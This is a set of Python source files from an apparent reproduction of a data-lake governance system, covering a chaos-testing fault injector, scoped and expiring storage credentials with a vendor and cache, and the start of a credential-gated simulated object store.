    def __init__(
        self,
        clock: Clock | None = None,
        telemetry: Telemetry | None = None,
        seed: int = 0,
    ):
        self._clock = clock or SystemClock()
        self._telemetry = telemetry
        self.seed = seed
        self._lock = threading.Lock()
        self._points: dict[str, _PointState] = {}
        #: Trigger counters survive disarming, so ``fault_stats`` still
        #: reports one-shot faults after they fired.
        self._history: dict[str, dict[str, int]] = {}
        #: Named recovery counters (``record_recovery``), reported next to
        #: trigger counts in ``system.access.fault_stats``.
        self._recoveries: dict[str, int] = {}

    # -- arming ---------------------------------------------------------------

    def arm(self, point: str, spec: FaultSpec | None = None) -> FaultSpec:
        """Arm ``point`` with ``spec`` (default: always-raise)."""
        spec = spec or FaultSpec()
        with self._lock:
            rng = random.Random(f"{self.seed}:{point}")
            history = self._history.setdefault(
                point, {"calls": 0, "triggered": 0}
            )
            state = _PointState(spec=spec, rng=rng)
            state.calls = history["calls"]
            state.triggered = history["triggered"]
            self._points[point] = state
        return spec

    def disarm(self, point: str) -> None:
        """Remove the schedule on ``point`` (counters are kept)."""
        with self._lock:
            self._disarm_locked(point)

    def _disarm_locked(self, point: str) -> None:
        state = self._points.pop(point, None)
        if state is not None:
            self._history[point] = {
                "calls": state.calls,
                "triggered": state.triggered,
            }

    def clear(self) -> None:
        """Disarm every point (counters are kept)."""
        with self._lock:
            for point in list(self._points):
                self._disarm_locked(point)

    def armed(self, point: str) -> bool:
        """True iff ``point`` currently has a schedule."""
        with self._lock:
            return point in self._points

    def arm_from_env(self, environ: dict[str, str] | None = None) -> bool:
        """Arm the global chaos schedule from the environment, if requested.

        Reads ``LAKEGUARD_CHAOS_RATE`` (a per-call probability; unset or
        ``0`` leaves everything fault-free) and ``LAKEGUARD_CHAOS_SEED``.
        Returns True when a schedule was armed.
        """
        env = environ if environ is not None else os.environ
        try:
            rate = float(env.get(ENV_CHAOS_RATE, "") or 0.0)
        except ValueError:
            rate = 0.0
        if rate <= 0.0:
            return False
        try:
            self.seed = int(env.get(ENV_CHAOS_SEED, "") or 0)
        except ValueError:
            self.seed = 0
        for point in ENV_CHAOS_POINTS:
            self.arm(
                point,
                FaultSpec(kind="raise", probability=rate, only_in_query=True),
            )
        return True

    # -- schedule shipping (process workers) ----------------------------------

    def export_schedule(self) -> dict[str, Any]:
        """Snapshot the armed schedule in a picklable, process-safe form.

        Ships the seed plus, per armed point, the spec fields, lifetime
        call/trigger counters and the point RNG's exact state — so a worker
        process rebuilt via :meth:`from_export` continues the *same*
        deterministic trigger sequence the driver would have produced.
        Callable fields (``error`` / ``corruptor``) are not shipped; workers
        fall back to the default error/corruptor.
        """
        with self._lock:
            points: dict[str, Any] = {}
            for point, state in self._points.items():
                spec = state.spec
                points[point] = {
                    "spec": {
                        "kind": spec.kind,
                        "probability": spec.probability,
                        "every_nth": spec.every_nth,
                        "after_calls": spec.after_calls,
                        "one_shot": spec.one_shot,
                        "max_triggers": spec.max_triggers,
                        "latency_seconds": spec.latency_seconds,
                        "hang_seconds": spec.hang_seconds,
                        "only_in_query": spec.only_in_query,
                        "cluster": spec.cluster,
                    },
                    "calls": state.calls,
                    "triggered": state.triggered,
                    "armed_triggered": state.armed_triggered,
                    "rng_state": state.rng.getstate(),
                }
            return {"seed": self.seed, "points": points}

    @classmethod
    def from_export(
        cls,
        exported: dict[str, Any],
        clock: Clock | None = None,
        telemetry: Telemetry | None = None,
    ) -> "FaultInjector":
        """Rebuild an injector from :meth:`export_schedule` output."""
        injector = cls(clock=clock, telemetry=telemetry, seed=exported["seed"])
        for point, entry in exported["points"].items():
            spec = FaultSpec(**entry["spec"])
            injector.arm(point, spec)
            state = injector._points[point]
            state.calls = entry["calls"]
            state.triggered = entry["triggered"]
            state.armed_triggered = entry["armed_triggered"]
            state.rng.setstate(entry["rng_state"])
        return injector

    def merge_remote(self, deltas: dict[str, Any]) -> None:
        """Fold a worker's fault-activity deltas back into this injector.

        ``deltas`` maps point name to ``{"calls": n, "triggered": m}``
        increments (plus an optional ``"recoveries"`` entry mapping recovery
        names to counts). Merged counts show up in ``fault_stats`` so chaos
        observability covers faults that fired inside worker processes.
        """
        with self._lock:
            for point, entry in deltas.items():
                if point == "recoveries":
                    for name, count in entry.items():
                        self._recoveries[name] = (
                            self._recoveries.get(name, 0) + count
                        )
                    continue
                state = self._points.get(point)
                if state is not None:
                    state.calls += entry.get("calls", 0)
                    state.triggered += entry.get("triggered", 0)
                else:
                    hist = self._history.setdefault(
                        point, {"calls": 0, "triggered": 0}
                    )
                    hist["calls"] += entry.get("calls", 0)
                    hist["triggered"] += entry.get("triggered", 0)

    # -- the hot path ---------------------------------------------------------

    def check(self, point: str) -> FaultDecision:
        """Evaluate ``point``'s schedule; never raises.

        Applies trigger latency/hang sleeps and counts the call, but leaves
        raising (or payload corruption) to the caller — backends that model
        a fault as something other than an exception (e.g. killing their
        worker process) use this directly; everyone else calls :meth:`fire`.
        """
        with self._lock:
            state = self._points.get(point)
            if state is None:
                return _PASS
            state.calls += 1
            spec = state.spec
            if not self._eligible_locked(state):
                return FaultDecision(point=point, triggered=False)
            state.triggered += 1
            state.armed_triggered += 1
            if spec.one_shot or (
                spec.max_triggers is not None
                and state.armed_triggered >= spec.max_triggers
            ):
                self._disarm_locked(point)
            decision = FaultDecision(
                point=point,
                triggered=True,
                kind=spec.kind,
                corruptor=spec.corruptor,
                error=spec.error,
            )
        self._on_trigger(point, spec)
        return decision

    def _eligible_locked(self, state: _PointState) -> bool:
        spec = state.spec
        if spec.only_in_query and current_context() is None:
            return False
        if spec.cluster is not None:
            qctx = current_context()
            if qctx is None or qctx.cluster_id != spec.cluster:
                return False
        if state.calls <= spec.after_calls:
            return False
        if spec.every_nth > 0 and (
            (state.calls - spec.after_calls) % spec.every_nth != 0
        ):
            return False
        if spec.probability < 1.0 and state.rng.random() >= spec.probability:
            return False
        return True

    def _on_trigger(self, point: str, spec: FaultSpec) -> None:
        qctx = current_context()
        if qctx is not None:
            qctx.event(
                "fault-injected", point=point, kind=spec.kind
            )
        telemetry = self._telemetry
        if telemetry is None and qctx is not None:
            telemetry = qctx.telemetry
        if telemetry is not None:
            telemetry.counter(f"faults.{point}.triggered").inc()
        if spec.latency_seconds > 0:
            self._clock.sleep(spec.latency_seconds)
        if spec.kind == "hang" and spec.hang_seconds > 0:
            self._clock.sleep(spec.hang_seconds)

    def fire(self, point: str) -> FaultDecision:
        """Evaluate ``point`` and raise when a ``raise`` fault triggered.

        Returns the decision otherwise, so callers of ``corrupt``-armed
        points can :meth:`FaultDecision.apply` it to their payload.
        """
        decision = self.check(point)
        if decision.triggered and decision.kind == "raise":
            if decision.error is not None:
                raise decision.error()
            raise _default_error(point)
        return decision

    # -- recovery + stats -----------------------------------------------------

    def record_recovery(self, name: str) -> None:
        """Count one successful recovery action (retry succeeded, respawn)."""
        with self._lock:
            self._recoveries[name] = self._recoveries.get(name, 0) + 1
        if self._telemetry is not None:
            self._telemetry.counter(f"recovery.{name}").inc()

    def trigger_count(self, point: str) -> int:
        """Lifetime trigger count for ``point`` (armed or not)."""
        with self._lock:
            state = self._points.get(point)
            if state is not None:
                return state.triggered
            return self._history.get(point, {}).get("triggered", 0)

    def call_count(self, point: str) -> int:
        """Lifetime pass-through count for ``point`` (armed or not)."""
        with self._lock:
            state = self._points.get(point)
            if state is not None:
                return state.calls
            return self._history.get(point, {}).get("calls", 0)

    def stats_snapshot(self) -> dict[str, Any]:
        """Flat counters for ``system.access.fault_stats``.

        One ``<point>.calls`` / ``<point>.triggered`` pair per point ever
        armed, plus ``recovered.<name>`` counters and the armed-point count.
        """
        with self._lock:
            out: dict[str, Any] = {"armed_points": float(len(self._points))}
            seen: dict[str, tuple[int, int]] = {}
            for point, hist in self._history.items():
                seen[point] = (hist["calls"], hist["triggered"])
            for point, state in self._points.items():
                seen[point] = (state.calls, state.triggered)
            for point, (calls, triggered) in sorted(seen.items()):
                out[f"{point}.calls"] = float(calls)
                out[f"{point}.triggered"] = float(triggered)
            for name, count in sorted(self._recoveries.items()):
                out[f"recovered.{name}"] = float(count)
            return out
