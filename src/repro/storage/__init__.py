"""Simulated cloud object storage with credential-gated access.

This package stands in for S3/ADLS/GCS plus the Delta table format:

- :mod:`repro.storage.object_store` — a key/value blob store whose every
  operation is authorized by a credential (cluster instance profile or a
  user-scoped temporary credential).
- :mod:`repro.storage.credentials` — temporary, prefix-scoped, expiring
  credentials and the vendor that issues them (Unity Catalog calls this).
- :mod:`repro.storage.table_format` — a Delta-like versioned table layout:
  a transaction log of add/remove-file actions over immutable data files.
"""

from repro.storage.object_store import ObjectStore, StorageOp
from repro.storage.credentials import (
    TemporaryCredential,
    InstanceProfileCredential,
    CredentialVendor,
)
from repro.storage.table_format import LakeTableStorage, TableSnapshot

__all__ = [
    "ObjectStore",
    "StorageOp",
    "TemporaryCredential",
    "InstanceProfileCredential",
    "CredentialVendor",
    "LakeTableStorage",
    "TableSnapshot",
]
