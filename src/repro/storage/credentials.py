"""Storage credentials.

The paper's Figure 2 contrasts two access models:

- *cluster-bound*: the whole cluster holds a broad storage credential (an AWS
  instance profile); any user on the cluster inherits it. Modeled by
  :class:`InstanceProfileCredential`.
- *user-bound*: the catalog vends short-lived credentials scoped to exactly
  the table prefix the requesting user was granted, tagged with the user's
  identity for auditing. Modeled by :class:`TemporaryCredential` issued by the
  :class:`CredentialVendor`.
"""

from __future__ import annotations

import threading
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, Callable

from repro.common.clock import Clock, SystemClock
from repro.common.context import current_context, span_or_null
from repro.common.ids import new_id
from repro.common.telemetry import Telemetry
from repro.errors import CredentialError

if TYPE_CHECKING:
    from repro.common.faults import FaultInjector

#: Storage operations a credential may authorize.
READ = "READ"
WRITE = "WRITE"
LIST = "LIST"
DELETE = "DELETE"

_ALL_OPS = frozenset({READ, WRITE, LIST, DELETE})


def _validate_ops(operations: frozenset[str]) -> frozenset[str]:
    unknown = operations - _ALL_OPS
    if unknown:
        raise CredentialError(f"unknown storage operations: {sorted(unknown)}")
    return operations


@dataclass(frozen=True)
class TemporaryCredential:
    """A short-lived credential scoped to storage prefixes and operations.

    Carries the identity it was vended for — the object store and the audit
    log can therefore always attribute data access to a user, which is the
    crux of user-bound governance.
    """

    token: str
    identity: str
    prefixes: tuple[str, ...]
    operations: frozenset[str]
    issued_at: float
    expires_at: float
    compute_id: str | None = None

    def authorizes(self, path: str, operation: str, now: float) -> bool:
        """True iff this credential allows ``operation`` on ``path`` at ``now``."""
        if now >= self.expires_at:
            return False
        if operation not in self.operations:
            return False
        return any(path.startswith(prefix) for prefix in self.prefixes)

    def is_expired(self, now: float) -> bool:
        return now >= self.expires_at


@dataclass(frozen=True)
class InstanceProfileCredential:
    """A cluster-wide credential (legacy, cluster-bound access model).

    It has no user identity and no expiry: every workload on the cluster can
    use it, which is precisely the governance weakness Lakeguard replaces.
    """

    token: str
    cluster_id: str
    prefixes: tuple[str, ...]
    operations: frozenset[str] = field(default_factory=lambda: frozenset(_ALL_OPS))

    #: Instance profiles attribute access to the cluster, not a person.
    identity: str = "<cluster>"

    def authorizes(self, path: str, operation: str, now: float) -> bool:
        if operation not in self.operations:
            return False
        return any(path.startswith(prefix) for prefix in self.prefixes)


class CredentialVendor:
    """Issues and validates temporary credentials.

    Unity Catalog is the only component expected to call :meth:`issue`; the
    object store calls :meth:`validate` on every access. Revocation is
    immediate (tokens are removed from the live set).
    """

    DEFAULT_TTL_SECONDS = 900.0

    def __init__(
        self,
        clock: Clock | None = None,
        ttl_seconds: float | None = None,
        telemetry: Telemetry | None = None,
    ):
        self._clock = clock or SystemClock()
        self._ttl = ttl_seconds or self.DEFAULT_TTL_SECONDS
        self._telemetry = telemetry
        #: Chaos engine hook (set by the owning catalog): the
        #: ``credential.vend`` fault point fires at the top of :meth:`issue`.
        self.faults: "FaultInjector | None" = None
        self._live: dict[str, TemporaryCredential] = {}
        self._issued_count = 0

    @property
    def issued_count(self) -> int:
        """Total credentials ever issued (for utilization benchmarks)."""
        return self._issued_count

    def issue(
        self,
        identity: str,
        prefixes: list[str],
        operations: set[str],
        compute_id: str | None = None,
        ttl_seconds: float | None = None,
    ) -> TemporaryCredential:
        """Create a live credential for ``identity`` over ``prefixes``.

        Every vend is traced: when an instrumented query is active, the
        issue runs under a ``credential.vend`` span carrying the requesting
        identity, so data-access capability grants are attributable per
        query, not just per audit-log line.
        """
        if self.faults is not None:
            self.faults.fire("credential.vend")
        if not prefixes:
            raise CredentialError("cannot issue a credential with no prefixes")
        ops = _validate_ops(frozenset(operations))
        qctx = current_context()
        with span_or_null(
            qctx,
            "vend-credential",
            "credential.vend",
            identity=identity,
            prefixes=list(prefixes),
            operations=sorted(ops),
            compute=compute_id,
        ):
            now = self._clock.now()
            credential = TemporaryCredential(
                token=new_id("cred"),
                identity=identity,
                prefixes=tuple(prefixes),
                operations=ops,
                issued_at=now,
                expires_at=now + (ttl_seconds if ttl_seconds is not None else self._ttl),
                compute_id=compute_id,
            )
            self._live[credential.token] = credential
            self._issued_count += 1
            if self._telemetry is not None:
                self._telemetry.counter("credentials.issued").inc()
            elif qctx is not None:
                qctx.telemetry.counter("credentials.issued").inc()
            return credential

    def revoke(self, token: str) -> None:
        """Invalidate a credential immediately; unknown tokens are a no-op."""
        self._live.pop(token, None)

    def revoke_identity(self, identity: str) -> int:
        """Revoke all live credentials of one identity; returns the count."""
        doomed = [t for t, c in self._live.items() if c.identity == identity]
        for token in doomed:
            del self._live[token]
        return len(doomed)

    def validate(self, credential: TemporaryCredential) -> None:
        """Raise :class:`CredentialError` unless the credential is live."""
        live = self._live.get(credential.token)
        if live is None or live != credential:
            raise CredentialError(f"credential {credential.token} is not live")
        if credential.is_expired(self._clock.now()):
            del self._live[credential.token]
            raise CredentialError(f"credential {credential.token} has expired")

    def live_credentials(self, identity: str | None = None) -> list[TemporaryCredential]:
        """Snapshot of currently live credentials (optionally per identity)."""
        now = self._clock.now()
        creds = [c for c in self._live.values() if not c.is_expired(now)]
        if identity is not None:
            creds = [c for c in creds if c.identity == identity]
        return creds


# ---------------------------------------------------------------------------
# Credential cache
# ---------------------------------------------------------------------------


@dataclass
class CredentialCacheStats:
    """Hit/miss/refresh counters for the credential cache."""

    hits: int = 0
    misses: int = 0
    #: Re-vends triggered before expiry (remaining < fraction × lifetime).
    refreshes: int = 0
    #: Misses because the catalog policy epoch moved (grant/revoke etc.).
    stale_epoch_misses: int = 0
    #: Misses because the cached credential expired or was revoked.
    expired_misses: int = 0
    #: Misses served from the artifact store's memory-pinned tier.
    persistent_hits: int = 0


class CredentialCache:
    """TTL-aware memoization of vended credentials.

    A multi-file / multi-task / repeated scan should exchange identity for a
    storage credential once, not once per query. Entries are keyed by
    (principal, securable, operations, on_behalf_of) and stamped with the
    catalog **policy epoch** at vend time; a later epoch is a hard miss, so
    any grant/revoke or policy change forces a fresh vend (which re-runs the
    privilege check). Reuse is TTL-aware with *refresh-ahead*: once the
    remaining lifetime drops below ``refresh_ahead_fraction`` of the total,
    the next caller re-vends early instead of running a scan on a credential
    about to expire mid-read. An optional validator (the vendor's liveness
    check) catches out-of-band revocation.
    """

    def __init__(
        self,
        clock: Clock | None = None,
        refresh_ahead_fraction: float = 0.2,
        telemetry: Telemetry | None = None,
        faults: "FaultInjector | None" = None,
        persistent: Any | None = None,
    ):
        if not 0.0 <= refresh_ahead_fraction < 1.0:
            raise CredentialError(
                "refresh_ahead_fraction must be in [0, 1); got "
                f"{refresh_ahead_fraction}"
            )
        self._clock = clock or SystemClock()
        self.refresh_ahead_fraction = refresh_ahead_fraction
        self._telemetry = telemetry
        #: Chaos hook: ``credential.refresh`` fires on refresh-ahead vends.
        self.faults = faults
        #: Optional :class:`repro.store.ArtifactStore`. Credentials written
        #: through it are pinned ``memory_only`` — secret material must
        #: never reach a disk or shared-KV tier (a security test scans the
        #: spill directory to enforce this), so this sharing is strictly
        #: within-process (e.g. across caches riding one store).
        self._persistent = persistent
        self._lock = threading.Lock()
        #: key -> (credential, policy epoch at vend time)
        self._entries: dict[tuple, tuple[TemporaryCredential, int]] = {}
        self.stats = CredentialCacheStats()

    def _count(self, name: str) -> None:
        if self._telemetry is not None:
            self._telemetry.counter(name).inc()

    @staticmethod
    def _key(
        principal: str,
        securable: str,
        operations: frozenset[str],
        on_behalf_of: str | None,
    ) -> tuple:
        return (principal, securable, operations, on_behalf_of)

    def _needs_refresh(self, credential: TemporaryCredential, now: float) -> bool:
        lifetime = credential.expires_at - credential.issued_at
        remaining = credential.expires_at - now
        return remaining < self.refresh_ahead_fraction * lifetime

    def get_or_vend(
        self,
        principal: str,
        securable: str,
        operations: frozenset[str],
        on_behalf_of: str | None,
        policy_epoch: int,
        vend: Callable[[], TemporaryCredential],
        validate: Callable[[TemporaryCredential], None] | None = None,
    ) -> tuple[TemporaryCredential, bool]:
        """Return ``(credential, reused)``; vends via ``vend()`` on a miss.

        ``vend`` runs outside the lock (it performs the privilege check and
        may trace/audit); a concurrent duplicate vend is harmless.
        """
        key = self._key(principal, securable, operations, on_behalf_of)
        now = self._clock.now()
        refreshing = False
        with self._lock:
            entry = self._entries.get(key)
            if entry is not None:
                credential, vended_epoch = entry
                if vended_epoch != policy_epoch:
                    del self._entries[key]
                    self.stats.stale_epoch_misses += 1
                    self._count("credential_cache.stale_epoch_misses")
                elif credential.is_expired(now):
                    del self._entries[key]
                    self.stats.expired_misses += 1
                    self._count("credential_cache.expired_misses")
                elif self._needs_refresh(credential, now):
                    del self._entries[key]
                    refreshing = True
                else:
                    live = True
                    if validate is not None:
                        try:
                            validate(credential)
                        except CredentialError:
                            live = False
                    if live:
                        self.stats.hits += 1
                        self._count("credential_cache.hits")
                        return credential, True
                    # Revoked out of band (no epoch bump): treat as expired.
                    del self._entries[key]
                    self.stats.expired_misses += 1
                    self._count("credential_cache.expired_misses")
        if refreshing and self.faults is not None:
            self.faults.fire("credential.refresh")
        if not refreshing:
            adopted = self._adopt_persistent(key, policy_epoch, now, validate)
            if adopted is not None:
                return adopted, True
        credential = vend()
        with self._lock:
            self._entries[key] = (credential, policy_epoch)
            if refreshing:
                self.stats.refreshes += 1
                self._count("credential_cache.refreshes")
            else:
                self.stats.misses += 1
                self._count("credential_cache.misses")
        if self._persistent is not None:
            self._persistent.put_credential(key, policy_epoch, credential)
        return credential, False

    def _adopt_persistent(
        self,
        key: tuple,
        policy_epoch: int,
        now: float,
        validate: Callable[[TemporaryCredential], None] | None,
    ) -> TemporaryCredential | None:
        """Probe the memory-pinned store tier after a local miss.

        The store key embeds the policy epoch, so stale governance is a
        hard miss there; expiry, refresh-ahead and liveness are re-checked
        here exactly as for a local hit.
        """
        if self._persistent is None:
            return None
        credential = self._persistent.get_credential(key, policy_epoch)
        if credential is None:
            return None
        if credential.is_expired(now) or self._needs_refresh(credential, now):
            return None
        if validate is not None:
            try:
                validate(credential)
            except CredentialError:
                return None
        with self._lock:
            self._entries[key] = (credential, policy_epoch)
            self.stats.hits += 1
            self.stats.persistent_hits += 1
        self._count("credential_cache.hits")
        self._count("credential_cache.persistent_hits")
        return credential

    def invalidate_principal(self, principal: str) -> int:
        """Drop all cached credentials vended for one principal."""
        with self._lock:
            doomed = [k for k in self._entries if k[0] == principal]
            for key in doomed:
                del self._entries[key]
            return len(doomed)

    def clear(self) -> None:
        with self._lock:
            self._entries.clear()

    def __len__(self) -> int:
        return len(self._entries)

    def stats_snapshot(self) -> dict[str, Any]:
        """Counters + size for ``system.access.cache_stats``."""
        with self._lock:
            return {
                "hits": self.stats.hits,
                "misses": self.stats.misses,
                "refreshes": self.stats.refreshes,
                "stale_epoch_misses": self.stats.stale_epoch_misses,
                "expired_misses": self.stats.expired_misses,
                "persistent_hits": self.stats.persistent_hits,
                "size": len(self._entries),
                "refresh_ahead_fraction": self.refresh_ahead_fraction,
            }
