"""Storage credentials.

The paper's Figure 2 contrasts two access models:

- *cluster-bound*: the whole cluster holds a broad storage credential (an AWS
  instance profile); any user on the cluster inherits it. Modeled by
  :class:`InstanceProfileCredential`.
- *user-bound*: the catalog vends short-lived credentials scoped to exactly
  the table prefix the requesting user was granted, tagged with the user's
  identity for auditing. Modeled by :class:`TemporaryCredential` issued by the
  :class:`CredentialVendor`.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.common.clock import Clock, SystemClock
from repro.common.context import current_context, span_or_null
from repro.common.ids import new_id
from repro.common.telemetry import Telemetry
from repro.errors import CredentialError

#: Storage operations a credential may authorize.
READ = "READ"
WRITE = "WRITE"
LIST = "LIST"
DELETE = "DELETE"

_ALL_OPS = frozenset({READ, WRITE, LIST, DELETE})


def _validate_ops(operations: frozenset[str]) -> frozenset[str]:
    unknown = operations - _ALL_OPS
    if unknown:
        raise CredentialError(f"unknown storage operations: {sorted(unknown)}")
    return operations


@dataclass(frozen=True)
class TemporaryCredential:
    """A short-lived credential scoped to storage prefixes and operations.

    Carries the identity it was vended for — the object store and the audit
    log can therefore always attribute data access to a user, which is the
    crux of user-bound governance.
    """

    token: str
    identity: str
    prefixes: tuple[str, ...]
    operations: frozenset[str]
    issued_at: float
    expires_at: float
    compute_id: str | None = None

    def authorizes(self, path: str, operation: str, now: float) -> bool:
        """True iff this credential allows ``operation`` on ``path`` at ``now``."""
        if now >= self.expires_at:
            return False
        if operation not in self.operations:
            return False
        return any(path.startswith(prefix) for prefix in self.prefixes)

    def is_expired(self, now: float) -> bool:
        return now >= self.expires_at


@dataclass(frozen=True)
class InstanceProfileCredential:
    """A cluster-wide credential (legacy, cluster-bound access model).

    It has no user identity and no expiry: every workload on the cluster can
    use it, which is precisely the governance weakness Lakeguard replaces.
    """

    token: str
    cluster_id: str
    prefixes: tuple[str, ...]
    operations: frozenset[str] = field(default_factory=lambda: frozenset(_ALL_OPS))

    #: Instance profiles attribute access to the cluster, not a person.
    identity: str = "<cluster>"

    def authorizes(self, path: str, operation: str, now: float) -> bool:
        if operation not in self.operations:
            return False
        return any(path.startswith(prefix) for prefix in self.prefixes)


class CredentialVendor:
    """Issues and validates temporary credentials.

    Unity Catalog is the only component expected to call :meth:`issue`; the
    object store calls :meth:`validate` on every access. Revocation is
    immediate (tokens are removed from the live set).
    """

    DEFAULT_TTL_SECONDS = 900.0

    def __init__(
        self,
        clock: Clock | None = None,
        ttl_seconds: float | None = None,
        telemetry: Telemetry | None = None,
    ):
        self._clock = clock or SystemClock()
        self._ttl = ttl_seconds or self.DEFAULT_TTL_SECONDS
        self._telemetry = telemetry
        self._live: dict[str, TemporaryCredential] = {}
        self._issued_count = 0

    @property
    def issued_count(self) -> int:
        """Total credentials ever issued (for utilization benchmarks)."""
        return self._issued_count

    def issue(
        self,
        identity: str,
        prefixes: list[str],
        operations: set[str],
        compute_id: str | None = None,
        ttl_seconds: float | None = None,
    ) -> TemporaryCredential:
        """Create a live credential for ``identity`` over ``prefixes``.

        Every vend is traced: when an instrumented query is active, the
        issue runs under a ``credential.vend`` span carrying the requesting
        identity, so data-access capability grants are attributable per
        query, not just per audit-log line.
        """
        if not prefixes:
            raise CredentialError("cannot issue a credential with no prefixes")
        ops = _validate_ops(frozenset(operations))
        qctx = current_context()
        with span_or_null(
            qctx,
            "vend-credential",
            "credential.vend",
            identity=identity,
            prefixes=list(prefixes),
            operations=sorted(ops),
            compute=compute_id,
        ):
            now = self._clock.now()
            credential = TemporaryCredential(
                token=new_id("cred"),
                identity=identity,
                prefixes=tuple(prefixes),
                operations=ops,
                issued_at=now,
                expires_at=now + (ttl_seconds if ttl_seconds is not None else self._ttl),
                compute_id=compute_id,
            )
            self._live[credential.token] = credential
            self._issued_count += 1
            if self._telemetry is not None:
                self._telemetry.counter("credentials.issued").inc()
            elif qctx is not None:
                qctx.telemetry.counter("credentials.issued").inc()
            return credential

    def revoke(self, token: str) -> None:
        """Invalidate a credential immediately; unknown tokens are a no-op."""
        self._live.pop(token, None)

    def revoke_identity(self, identity: str) -> int:
        """Revoke all live credentials of one identity; returns the count."""
        doomed = [t for t, c in self._live.items() if c.identity == identity]
        for token in doomed:
            del self._live[token]
        return len(doomed)

    def validate(self, credential: TemporaryCredential) -> None:
        """Raise :class:`CredentialError` unless the credential is live."""
        live = self._live.get(credential.token)
        if live is None or live != credential:
            raise CredentialError(f"credential {credential.token} is not live")
        if credential.is_expired(self._clock.now()):
            del self._live[credential.token]
            raise CredentialError(f"credential {credential.token} has expired")

    def live_credentials(self, identity: str | None = None) -> list[TemporaryCredential]:
        """Snapshot of currently live credentials (optionally per identity)."""
        now = self._clock.now()
        creds = [c for c in self._live.values() if not c.is_expired(now)]
        if identity is not None:
            creds = [c for c in creds if c.identity == identity]
        return creds
