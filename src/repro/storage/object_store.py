"""A credential-gated cloud object store.

Every operation requires a credential object exposing
``authorizes(path, operation, now) -> bool`` (either a
:class:`~repro.storage.credentials.TemporaryCredential` or an
:class:`~repro.storage.credentials.InstanceProfileCredential`).

The store keeps byte counters so benchmarks can measure *data movement* —
e.g. how many bytes an eFGAC pushdown saves, or the storage amplification of
the data-replica governance baseline.

A key property the paper leans on (Fig. 3): cloud storage authorizes at the
*object* level. There is no way to grant a subset of the bytes of one object;
fine-grained policies therefore must be enforced by a trusted engine after
reading the full object.
"""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass
from typing import TYPE_CHECKING, Protocol

from repro.common.audit import AuditLog
from repro.common.clock import Clock, SystemClock
from repro.errors import (
    CommitConflictError,
    CredentialError,
    StorageAccessDenied,
    StorageError,
)
from repro.storage.credentials import DELETE, LIST, READ, WRITE, TemporaryCredential

if TYPE_CHECKING:
    from repro.common.faults import FaultInjector
    from repro.storage.credentials import CredentialVendor


class StorageCredential(Protocol):
    """Anything that can authorize a storage operation."""

    identity: str

    def authorizes(self, path: str, operation: str, now: float) -> bool: ...


#: Re-exported operation names so callers can say ``StorageOp.READ``.
class StorageOp:
    """Operation-name constants re-exported for call-site readability."""

    READ = READ
    WRITE = WRITE
    LIST = LIST
    DELETE = DELETE


@dataclass
class StorageStats:
    """Cumulative data-movement counters."""

    bytes_read: int = 0
    bytes_written: int = 0
    objects_read: int = 0
    objects_written: int = 0
    denied_ops: int = 0

    def reset(self) -> None:
        self.bytes_read = 0
        self.bytes_written = 0
        self.objects_read = 0
        self.objects_written = 0
        self.denied_ops = 0


class ObjectStore:
    """In-memory blob store with per-operation credential checks."""

    def __init__(
        self,
        clock: Clock | None = None,
        audit: AuditLog | None = None,
        read_latency_seconds: float = 0.0,
    ):
        self._clock = clock or SystemClock()
        self._audit = audit
        self._objects: dict[str, bytes] = {}
        #: Serializes conditional writes: ``put_if_absent`` must observe and
        #: claim a path atomically, or two racing commits could both win.
        self._mutex = threading.Lock()
        #: Modelled per-object fetch latency (cloud stores are remote; a GET
        #: is a network round-trip). A real ``time.sleep`` — it releases the
        #: GIL, so concurrent scan tasks genuinely overlap their reads, the
        #: way threads overlap network I/O against S3/ADLS/GCS.
        self.read_latency_seconds = read_latency_seconds
        #: Chaos engine hook (set by the owning catalog): ``storage.get`` /
        #: ``storage.put`` / ``storage.list`` fault points fire here. The
        #: ``raise`` faults fire *before* the object is touched — a network
        #: flake happens on the wire — so byte/object counters only move on
        #: attempts that actually reach the data.
        self.faults: "FaultInjector | None" = None
        #: Issuing vendor (set by the owning catalog). When present, every
        #: temporary-credential operation is validated against the vendor's
        #: live set, so revocation takes effect immediately — a captured
        #: credential *object* cannot be replayed after ``revoke``. Stores
        #: constructed stand-alone (no vendor) keep pure capability
        #: semantics: the credential's own prefix/op/expiry checks decide.
        self.vendor: "CredentialVendor | None" = None
        self.stats = StorageStats()

    @property
    def clock(self) -> Clock:
        """The clock storage latency and credential checks run on."""
        return self._clock

    # -- internal -----------------------------------------------------------

    def _check(self, credential: StorageCredential, path: str, op: str) -> None:
        now = self._clock.now()
        allowed = credential.authorizes(path, op, now)
        revoked: CredentialError | None = None
        if (
            allowed
            and self.vendor is not None
            and isinstance(credential, TemporaryCredential)
        ):
            try:
                self.vendor.validate(credential)
            except CredentialError as exc:
                allowed = False
                revoked = exc
        if self._audit is not None:
            self._audit.record(
                timestamp=now,
                principal=credential.identity,
                action=f"storage.{op.lower()}",
                resource=path,
                allowed=allowed,
            )
        if not allowed:
            self.stats.denied_ops += 1
            if revoked is not None:
                raise revoked
            raise StorageAccessDenied(
                f"{credential.identity}: {op} denied on '{path}'"
            )

    # -- public API ---------------------------------------------------------

    def put(self, path: str, data: bytes, credential: StorageCredential) -> None:
        """Write a whole object (cloud stores have no partial writes)."""
        if not isinstance(data, bytes):
            raise StorageError(f"object data must be bytes, got {type(data).__name__}")
        if self.faults is not None:
            self.faults.fire("storage.put")
        self._check(credential, path, StorageOp.WRITE)
        self._objects[path] = data
        self.stats.bytes_written += len(data)
        self.stats.objects_written += 1

    def put_if_absent(
        self, path: str, data: bytes, credential: StorageCredential
    ) -> None:
        """Write an object only if ``path`` is unclaimed (atomic).

        The conditional-write primitive real object stores expose (S3
        ``If-None-Match: *``, ADLS/GCS preconditions) and the foundation of
        the table format's atomic commit protocol: exactly one of N racing
        writers claims a log version; the losers get a typed
        :class:`~repro.errors.CommitConflictError` and rebase. Faults fire
        *before* the object is touched, so a raised injection never leaves
        a half-claimed path.
        """
        if not isinstance(data, bytes):
            raise StorageError(f"object data must be bytes, got {type(data).__name__}")
        if self.faults is not None:
            self.faults.fire("storage.put")
        self._check(credential, path, StorageOp.WRITE)
        with self._mutex:
            if path in self._objects:
                raise CommitConflictError(
                    f"object already exists at '{path}': commit lost the race"
                )
            self._objects[path] = data
        self.stats.bytes_written += len(data)
        self.stats.objects_written += 1

    def get(self, path: str, credential: StorageCredential) -> bytes:
        """Read a whole object. Object-level granularity: all bytes or none."""
        decision = None
        if self.faults is not None:
            decision = self.faults.fire("storage.get")
